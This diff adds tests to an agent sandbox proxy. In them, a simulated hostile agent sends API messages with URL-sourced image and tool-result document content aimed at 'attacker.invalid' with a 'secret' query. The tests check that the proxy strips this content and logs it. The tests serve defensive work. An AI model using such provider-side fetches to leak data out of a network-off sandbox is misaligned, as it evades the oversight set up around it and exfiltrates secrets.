@@ -12,6 +12,34 @@ import { CANARY_KEY, createRunFixture, filesContaining, leftoversOf, type RunFix
  */
 
 const docker = await requirePrerequisite('docker');
+const qemu = docker.ok ? await requirePrerequisite('qemu') : docker;
+
+/**
+ * Issue 22, item 3: a hostile agent sends content whose source is a URL (an Anthropic url image in a
+ * user turn and a url document in a tool result), which would make the provider fetch it with the
+ * network off. What reaches the upstream has neither URL; the run's audit log records the strip.
+ */
+function urlContentCommand(): string {
+  const body = JSON.stringify({
+    model: 'claude-sonnet-4-5',
+    max_tokens: 16,
+    messages: [
+      { role: 'user', content: [{ type: 'text', text: 'describe' }, { type: 'image', source: { type: 'url', url: 'https://attacker.invalid/img.png?d=secret' } }] },
+      { role: 'assistant', content: [{ type: 'tool_use', id: 't1', name: 'read', input: {} }] },
+      { role: 'user', content: [{ type: 'tool_result', tool_use_id: 't1', content: [{ type: 'document', source: { type: 'url', url: 'https://attacker.invalid/doc.pdf?d=secret' } }] }] },
+    ],
+  });
+  return `curl -s -H "x-api-key: $ANTHROPIC_API_KEY" -H 'anthropic-version: 2023-06-01' -H 'content-type: application/json' -d '${body}' "$ANTHROPIC_BASE_URL/v1/messages" > reply.json`;
+}
+
+async function expectUrlContentStripped(f: RunFixture, runId: string, seen: number): Promise<void> {
+  const sent = f.upstream.requests.slice(seen).filter((r) => r.path === '/v1/messages');
+  expect(sent).toHaveLength(1);
+  expect(sent[0]?.raw).not.toContain('attacker.invalid');
+  expect(sent[0]?.raw).toContain('Airlock removed content the provider would have fetched');
+  const { records } = await f.services.audit.read({ runId, offset: 0, limit: 1000 });
+  expect(records.filter((r) => r.type === 'side_door').map((r) => r.data)).toEqual([{ provider: 'anthropic', path: '/v1/messages', stripped: ['url_content'], allowed: [] }]);
+}
 
 describe.skipIf(!docker.ok)('custom command agent (real Docker, proxy, fake upstream)', () => {
   let f: RunFixture;
@@ -74,5 +102,34 @@ describe.skipIf(!docker.ok)('custom command agent (real Docker, proxy, fake upst
     expect(records.filter((r) => r.type === 'side_door').map((r) => r.data)).toEqual([
       { provider: 'anthropic', path: '/v1/messages', stripped: ['anthropic-beta:mcp-client-2025-04-04', 'mcp_servers', 'web_fetch'], allowed: [] },
     ]);
+  });
+
+  it('URL-sourced content (an image in a user turn, a document in a tool result) is replaced on the way out and recorded', async () => {
+    const projectDir = await f.project();
+    const seen = f.upstream.requests.length;
+    const started = await f.start({ projectDir, agent: 'custom', customCommand: urlContentCommand(), task: 'leak by url', script: [{ text: 'nothing fetched' }] });
+    const run = await f.core.runs.wait(started.id);
+    expect(run.status, JSON.stringify(run.error)).toBe('done');
+    await expectUrlContentStripped(f, run.id, seen);
+  });
+});
+
+describe.skipIf(!docker.ok || !qemu.ok)('custom command agent in a VM (QEMU): URL-sourced content', () => {
+  let f: RunFixture;
+  beforeAll(async () => {
+    f = await createRunFixture();
+  });
+  afterAll(async () => {
+    await f?.close();
+  });
+
+  it('is replaced on the way out and recorded, as in a container', { timeout: 1_200_000 }, async () => {
+    const projectDir = await f.project();
+    const seen = f.upstream.requests.length;
+    const started = await f.start({ projectDir, isolation: 'vm', limits: { timeoutSec: 900 }, agent: 'custom', customCommand: urlContentCommand(), task: 'leak by url', script: [{ text: 'nothing fetched' }] });
+    const run = await f.core.runs.wait(started.id);
+    expect(run.status, JSON.stringify(run.error)).toBe('done');
+    expect(run.sandbox.driver).toBe('qemu');
+    await expectUrlContentStripped(f, run.id, seen);
   });
 });
